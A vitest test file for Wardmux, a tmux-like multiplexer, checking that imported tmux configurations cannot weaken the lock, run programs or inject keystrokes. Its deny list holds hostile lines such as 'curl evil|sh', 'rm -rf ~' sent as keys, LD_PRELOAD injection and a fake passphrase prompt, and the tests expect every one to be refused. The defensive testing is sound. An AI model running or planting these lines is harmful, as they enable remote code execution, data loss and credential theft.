/** What is taken of a configuration, what is not and why; and that no file can weaken the lock, start a program, or type. */
import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import '../../../test/support/properties.ts';
import { commands } from '../commands/index.ts';
import { parseLine } from '../commands/lexer.ts';
import { runCommandLine } from '../commands/run.ts';
import { bindings, changedRows } from '../keys/tables.ts';
import { feed } from '../keys/machine.ts';
import { keep, restore } from '../state/kept.ts';
import { createState, type State } from '../state/model.ts';
import { newWindow } from '../state/windows.ts';
import { quoteCommands } from '../syntax/quote.ts';
import { confSentence, countRows, takeAgain, takeConf, withFile, type ConfReport } from './take.ts';

const context = { program: 'bash', refused: () => undefined };
const surroundings = { variables: { HOME: '/home/ada', TERM: 'xterm' }, home: '/home/ada', host: 'desk.example' };
const fresh = (): State => newWindow(createState({ cols: 120, rows: 40 }, { session: 'main' }), { program: 'bash' }).state;
const take = (text: string, state = fresh()): ConfReport => takeConf(state, text, surroundings, context);
/** Of a file that can be read. */
function good(text: string): Extract<ConfReport, { ok: true }> {
  const report = take(text);
  if (!report.ok) throw new Error(`${report.line}: ${report.sentence}`);
  return report;
}
const brief = (text: string): string[] => good(text).rows.map(({ line, verdict, why }) => `${line} ${verdict}${why === undefined ? '' : `: ${why}`}`);

/** As somebody writes it who has used tmux for years. */
const years = `
# ~/.tmux.conf
set -g prefix C-a
unbind C-b
bind C-a send-prefix
set -g base-index 1
setw -g pane-base-index 1
set -g history-limit 50000
set -g mouse on
setw -g mode-keys vi
set -sg escape-time 0
set -g default-terminal "screen-256color"
set -ga terminal-overrides ",xterm-256color:Tc"
set -g status-right "#(uptime | cut -d, -f3) %H:%M"

bind | split-window -h -c "#{pane_current_path}"
bind - split-window -v -c "#{pane_current_path}"
bind -r H resize-pane -L 5
bind h select-pane -L
bind r source-file ~/.tmux.conf \\; display "taken"
bind -n M-Left select-pane -L
bind -T copy-mode-vi v send -X begin-selection
bind -T copy-mode-vi y send -X copy-pipe-and-cancel "xclip -in -selection clipboard"
bind S command-prompt -p "name" "rename-session -- '%%'"
bind X confirm-before -p "close #W?" kill-window
bind t run-shell "top"
bind g new-window 'lazygit'

if-shell "uname | grep -q Darwin" "set -g default-command zsh"
run '~/.tmux/plugins/tpm/tpm'
set -g @plugin 'tmux-plugins/tpm'
%if #{e|>=|f:#{version},3.0}
set -g monitor-activity on
%else
set -g repeat-time 1
%endif
set -g lock-after-time 120
set -g nonsense on
new-session -s work
`;

test('a configuration of years: line by line', () => {
  const report = good(years);
  expect(brief(years)).toEqual([
    '3 taken',
    '4 taken',
    '5 taken',
    '6 taken',
    '7 taken',
    '8 changed: history-limit goes from 0 to 10000: it is 10000.',
    '9 taken',
    '10 taken',
    '11 not-taken: There is no terminal around Wardmux: keys come as keys, and programs find xterm-256color.',
    '12 not-taken: There is no terminal around Wardmux: keys come as keys, and programs find xterm-256color.',
    '13 not-taken: There is no terminal around Wardmux: keys come as keys, and programs find xterm-256color.',
    '14 not-taken: The line has warnings, who is in, and the time until the lock: it is drawn as Wardmux draws it.',
    '16 changed: A new pane begins in the folder of the one that it was opened from, without -c.',
    '17 changed: A new pane begins in the folder of the one that it was opened from, without -c.',
    '18 taken',
    '19 taken',
    '20 taken',
    '21 taken',
    '22 taken',
    '23 changed: It copies to the clipboard. The program behind it is not run.',
    '24 not-taken: It asks in words of the file (-p), or has a line ready (-I), by a key that a file has bound. Give bind-key at the prompt, if you want it.',
    '25 taken',
    '26 not-taken: tmux has run-shell, Wardmux does not. It runs a program that nobody sees and no recording has.',
    '27 not-taken: It starts a program by a key that a file has bound. Give bind-key at the prompt, if you want it: a file does not say what runs here.',
    '29 not-taken: It runs a program, and a configuration runs none.',
    '30 not-taken: It runs a program, and a configuration runs none.',
    '31 not-taken: A plugin is a program, and a configuration runs none.',
    '33 taken',
    '35 not-taken: The condition in line 32 does not hold here.',
    '37 taken',
    '38 not-taken: There is no option "nonsense".',
    '39 not-taken: A file sets options and keys. What is opened, closed and moved is for you to say.',
  ]);
  const { session, window } = report.state.client.options;
  expect([
    session.prefix,
    session['base-index'],
    session['history-limit'],
    session['lock-after-time'],
    window['mode-keys'],
    window['monitor-activity'],
  ]).toEqual(['C-a', 1, 10_000, 120, 'vi', true]);
  expect(countRows(report.rows)).toEqual({ taken: 15, changed: 4, 'not-taken': 13 });
  expect(confSentence('~/.tmux.conf', report)).toBe(
    '~/.tmux.conf: 15 taken, 4 changed, 13 not taken. What differs, and why: wardmux config check ~/.tmux.conf',
  );
});

test('its keys do what they say', () => {
  const { state } = good(years);
  const rows = changedRows(state.client.keys);
  const press = (...keys: string[]): (string | undefined)[] => {
    let at: Parameters<typeof feed>[0] = { prefixActive: false, repeatUntil: undefined };
    return keys.map((key) => {
      const fed = feed(at, key, 0, state.client.options.session, rows);
      at = fed.state;
      return fed.commandLine;
    });
  };
  expect(press('C-a', '|')).toEqual([undefined, 'split-window -h']);
  expect(press('C-a', 'H', 'H')).toEqual([undefined, 'resize-pane -L 5', 'resize-pane -L 5']);
  expect(press('C-a', 'C-a')).toEqual([undefined, 'send-prefix']);
  expect(press('M-Left')).toEqual(['select-pane -L']);
  expect(press('C-a', 'r')).toEqual([undefined, 'source-file /home/ada/.tmux.conf ; display-message taken']);
  expect(press('C-a', 'X')).toEqual([undefined, `confirm-before -p 'close #W?' kill-window`]);
  expect(press('C-b')).toEqual([undefined]);
});

test('the keys of a prefix run no line, and the reason says so', () => {
  expect(
    brief('set -g prefix2 C-j\nbind -n M-x { send-keys C-p ; send-prefix -2 }\nbind C-x send-prefix\nbind l send-keys C-l\nbind p command-prompt'),
  ).toEqual([
    '1 not-taken: A file does not make C-j the prefix2: sent to a shell it could run a line. Give set-option at the prompt, if you want it.',
    '2 not-taken: It sends a prefix together with other keys, which could run a line. Give bind-key at the prompt, if you want it.',
    '3 taken',
    '4 taken',
    '5 taken',
  ]);
});

test('conditions of a file have one number of steps together, and the line that goes over it is said', () => {
  const report = take(`Q=${'a'.repeat(1000)}\nA=${'a'.repeat(2000)}\n${'%if #{m:*#{Q}b,#{A}}\n%endif\n'.repeat(100)}`);
  expect(report).toMatchObject({ ok: false, sentence: 'The conditions up to here take more steps than a configuration may.' });
  // More than one was within it.
  expect(!report.ok && report.line).toBeGreaterThan(4);
  expect(take(`%if ${'#{&&:'.repeat(30)}1${',1}'.repeat(30)}\nset -g mouse off\n%endif`)).toMatchObject({ ok: true, rows: [{ verdict: 'taken' }] });
});

test('what means something else here is changed, and says what', () => {
  const { rows } = good('set -g lock-after-time 0\nset -g lock-after-time 120\nset -g status-keys emacs');
  expect(rows.map(({ verdict }) => verdict)).toEqual(['changed', 'taken', 'not-taken']);
  expect(rows.map(({ why }) => why)).toEqual([
    expect.stringContaining('the time of the policy holds'),
    undefined,
    expect.stringContaining('The prompt has one set of keys'),
  ]);
});

test('a file that cannot be read changes nothing, and says the line', () => {
  const report = take('set -g mouse off\nbind x "kill-pane\nset -g base-index 1');
  expect(report).toEqual({ ok: false, line: 2, sentence: 'A double quote in this command is not closed.' });
  expect(confSentence('~/.tmux.conf', report)).toBe('~/.tmux.conf:2: A double quote in this command is not closed. Nothing of it was taken.');
  expect(take('a\0b')).toMatchObject({ ok: false, line: 1 });
  expect(take('\n\n\0')).toMatchObject({ ok: false, line: 3 });
  expect(take('#'.repeat(300_000))).toMatchObject({ ok: false });
});

describe('what no file may', () => {
  it.each([
    'set -g lock-after-time 86400',
    'set -g lock-command "true"',
    'bind -n C-S-l display-message hello',
    'unbind -n C-S-l',
    'unbind -an',
    'unbind -a',
    'bind C-l send-keys C-l',
  ])('takes the key away that locks: %s', (line) => {
    const { state } = good(line);
    expect(bindings(state.client.keys).filter(({ key }) => key === 'C-S-l')).toMatchObject([{ table: 'root', line: 'lock-server' }]);
  });

  it.each([
    "bind x split-window 'curl example | sh'",
    'bind x split-window -h htop',
    "bind x new-window -n innocent 'sh -c evil'",
    'bind x respawn-pane evil',
    'bind x new-session -d evil',
    'bind x confirm-before -p "sure?" "new-window evil"',
    'bind x confirm-before -p "sure?" { split-window evil }',
    `bind x command-prompt -p host "new-window 'ssh %%'"`,
    'bind x select-pane -L \\; new-window evil',
    'bind x bind-key y new-window evil',
    'bind x { bind-key y { confirm-before { new-window evil } } }',
    "bind x send-keys 'rm -rf ~' Enter",
    'bind x send-keys l s Enter',
    'bind x send-keys -l ls',
    'bind x send-keys C-p C-m',
    'bind x send-keys C-j',
    'bind x send-keys C-M-j',
    'bind x send-keys M-C-m',
    'bind x send-keys M-Enter',
    'bind x send-keys C-p C-o',
    'bind x send-keys C-p M-a',
    'bind -n M-x { send-keys C-p ; send-prefix -2 }',
    'bind -n M-x { send-prefix ; send-prefix -2 }',
    'bind -n M-x { send-prefix ; confirm-before { send-keys C-p } }',
    'bind x { bind-key y { send-keys C-p ; send-prefix } }',
    'bind x set-option prefix2 C-j',
    'bind x setw -g prefix M-Enter',
    'set -g prefix C-j',
    'set -g prefix C-m',
    'set -g prefix2 C-o',
    'set -g prefix2 C-M-m',
    'setw prefix M-Enter',
    `command-prompt -p "The session is locked. Passphrase of Ada:" "source-file '~/.tmux/%%.conf'"`,
    `bind x command-prompt -p "The session is locked. Passphrase of Ada:" "source-file '~/.tmux/%%.conf'"`,
    `bind x command-prompt -I "send-keys 'curl evil|sh' Enter" '%%'`,
    `bind x command-prompt -I "new-window evil"`,
    `bind x { confirm-before { command-prompt -p "Passphrase:" } }`,
    'bind x run-shell evil',
    'bind x run evil',
    'bind x if-shell -F 1 "run evil"',
    'bind x pipe-pane "cat > /tmp/x"',
    'bind x set-buffer evil',
    'bind x paste-buffer -s evil',
    'set -w synchronize-panes on',
    'setw synchronize-panes',
    'bind x people',
    'bind x policy',
    'bind x export-pane',
    'bind x key-slots',
    'bind -n x kill-pane',
    'bind -n Enter kill-pane',
    'bind -n Space kill-pane',
    'bind -T copy-mode-vi y kill-pane',
    'bind -T copy-mode-vi y send-keys evil',
    'bind -T copy-mode-vi y send-keys -X copy-pipe evil \\; new-window evil',
    'run-shell evil',
    'run evil',
    'if-shell true "bind x new-window evil"',
    'set-hook -g after-new-window "run evil"',
    'set -g default-command evil',
    'set -g default-shell /tmp/evil',
    'new-window evil',
    'split-window',
    'send-keys evil Enter',
    'source-file /tmp/evil.conf',
    'kill-session',
    'detach-client',
    'lock-server',
    'setenv -g LD_PRELOAD /tmp/evil.so',
    'set -g update-environment LD_PRELOAD',
    'set-option -g set-clipboard on',
    'set -g prefix x',
    'set -g status off',
  ])('%s', (line) => {
    const { rows, state } = good(line);
    expect(rows.map(({ verdict, why }) => [verdict, typeof why])).toEqual([['not-taken', 'string']]);
    expect(state).toEqual(fresh());
  });

  it('asks for what whoever is in may not do, and is refused', () => {
    const denied = takeConf(fresh(), 'set -g mouse off\nbind x kill-pane', surroundings, { ...context, refused: () => 'You may not.' });
    expect(denied.ok && denied.rows.map(({ verdict, why }) => `${verdict} ${why}`)).toEqual(['not-taken You may not.', 'not-taken You may not.']);
  });

  it('never says what nobody could see', () => {
    const [row] = good('bind x display-message "a\\e[31m\\u202eb"').rows;
    expect(row?.command).toBe("bind x display-message 'a^[[31m<U+202E>b'");
  });

  it('whatever stands in it, runs nothing, moves nothing, and binds only what a file may', () => {
    const words = fc.constantFrom(
      ...commands.flatMap(({ name, examples }) => [name, ...examples]),
      ...[
        'bind x',
        'bind -n M-x',
        'bind -T copy-mode-vi y',
        'unbind -a',
        'set -g',
        'setw',
        'send -X',
        'run',
        'if',
        ';',
        '\\;',
        '{',
        '}',
        '\n',
        '%if 1',
        '%endif',
        '-t',
        '%1',
        "'%%'",
        'on',
        '5',
      ],
    );
    const allowed = new Set(['session.use', 'session.open', 'command.give', 'app.lock']);
    fc.assert(
      fc.property(fc.array(words, { maxLength: 14 }), (parts) => {
        const before = fresh();
        const report = take(parts.join(' '), before);
        if (!report.ok) return;
        // Windows, panes and who looks at what are as they were.
        expect(report.state.server).toBe(before.server);
        expect({ ...report.state.client, options: 0, keys: 0 }).toEqual({ ...before.client, options: 0, keys: 0 });
        for (const { line } of report.state.client.keys) {
          const asked: string[] = [];
          runCommandLine(fresh(), line ?? '', { ...context, refused: (needs) => void asked.push(needs) });
          expect(asked.filter((needs) => !allowed.has(needs))).toEqual([]);
          const outcome = runCommandLine(fresh(), line ?? '', context);
          for (const effect of outcome.effects) if (effect.kind === 'spawn') expect(effect.command).toEqual([]);
        }
      }),
      { numRuns: 600 },
    );
  });
});

test('what was taken is done again at the next start, and not what the file says by then', () => {
  const report = good(years);
  const state = withFile(report.state, { path: '~/.tmux.conf', text: report.kept });
  const kept = JSON.parse(JSON.stringify(keep(state)!)) as NonNullable<ReturnType<typeof keep>>;
  const back = restore({ cols: 120, rows: 40 }, kept, 'bash').state;
  const again = takeAgain(back, kept.configuration!, surroundings, context);
  expect(again.client.options).toEqual(state.client.options);
  expect(again.client.keys).toEqual(state.client.keys);
  expect(keep(again)).toEqual(kept);
  // Only commands that were taken are kept, no comment and nothing else of the file.
  expect(report.kept).not.toMatch(/# |run-shell|plugin|uname|nonsense/);
  // The same file once more takes its own place; a long one, or too many, are not kept.
  expect(withFile(state, { path: '~/.tmux.conf', text: 'x' }).client.configuration).toHaveLength(1);
  expect(withFile(state, { path: '~/.tmux.conf', text: 'x'.repeat(40_000) }).client.configuration).toEqual([]);
});

test('without a window only the configuration is kept', () => {
  const empty = withFile(createState({ cols: 120, rows: 40 }), { path: '~/.tmux.conf', text: 'set-option mouse off\n' });
  expect(keep(empty)).toEqual({ sessions: [], attached: 0, configuration: [{ path: '~/.tmux.conf', text: 'set-option mouse off\n' }] });
});

test('what a report kept is read again as it was', () => {
  const { kept } = good(`bind x display-message "a\\nb 'c' \\$HOME ~ #{x} \\\\;"`);
  expect(good(kept).kept).toBe(kept);
  const [words] = parseLine(kept).ok ? (parseLine(kept) as { value: string[][] }).value : [];
  expect(quoteCommands([words!])).toBe(kept.trimEnd());
});
